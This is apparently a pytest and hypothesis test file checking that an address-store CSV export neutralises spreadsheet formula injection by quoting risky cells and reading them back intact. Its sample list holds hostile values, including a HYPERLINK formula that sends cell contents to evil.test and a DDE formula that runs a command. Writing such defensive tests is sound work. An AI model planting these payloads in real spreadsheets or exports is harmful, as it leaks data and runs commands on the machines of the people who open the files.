"""Tables computed by no spreadsheet, and read back as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.address_stores import NOON, a_holding, a_plan_of_addresses

from cmp.handing import handed_tables, write_out
from cmp.network.addresses.cells import FORMULA, quoted, unquoted
from cmp.ports.addresses import AddressChange
from cmp.services.addresses.exchanging import export, take_over
from cmp.store.memory import MemoryAddresses

COMPUTED = (
    "=1+1",
    '=HYPERLINK("http://evil.test?"&A1)',
    "=cmd|' /C calc'!A0",
    "+86 10 8888 0000",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)


@pytest.mark.parametrize("text", COMPUTED)
def test_what_a_spreadsheet_would_compute_becomes_a_text(text: str) -> None:
    assert quoted(text)[0] == "'"
    assert unquoted(quoted(text)) == text


@pytest.mark.parametrize(
    "text", ["", "mail-1", "bj-a-gov/public", "a=b", "it's", "'quoted'", "2001:db8::/32", "局"]
)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert quoted(text) == unquoted(text) == text


@given(st.text(alphabet=st.sampled_from([*FORMULA, "'", "a", " ", '"', ",", "局"]), max_size=6))
def test_every_text_is_read_back_unchanged_and_none_is_computed(text: str) -> None:
    assert unquoted(quoted(text)) == text
    assert not quoted(text).startswith(tuple(FORMULA))


def test_an_export_holds_nothing_that_is_computed_and_is_taken_back_whole(tmp_path: Path) -> None:
    store, other = (MemoryAddresses(lambda: NOON) for _ in range(2))
    store.change(a_plan_of_addresses())
    texts = [text for text in COMPUTED if text.isprintable() and "{" not in text]
    store.change(
        AddressChange(
            (),
            tuple(
                a_holding(f"host-{number}", f"198.51.100.{number}", owner=text, description=f"'{text}")
                for number, text in enumerate(texts, start=10)
            ),
        )
    )

    files = write_out(export(store, "csv"), tmp_path)
    take_over(other, handed_tables(tmp_path), dry=False)

    cells = [
        cell
        for file in files
        for row in csv.reader(file.read_text().splitlines(keepends=True))
        for cell in row
    ]
    assert [cell for cell in cells if cell.startswith(tuple(FORMULA))] == []
    assert set(other.holdings()) == set(store.holdings())
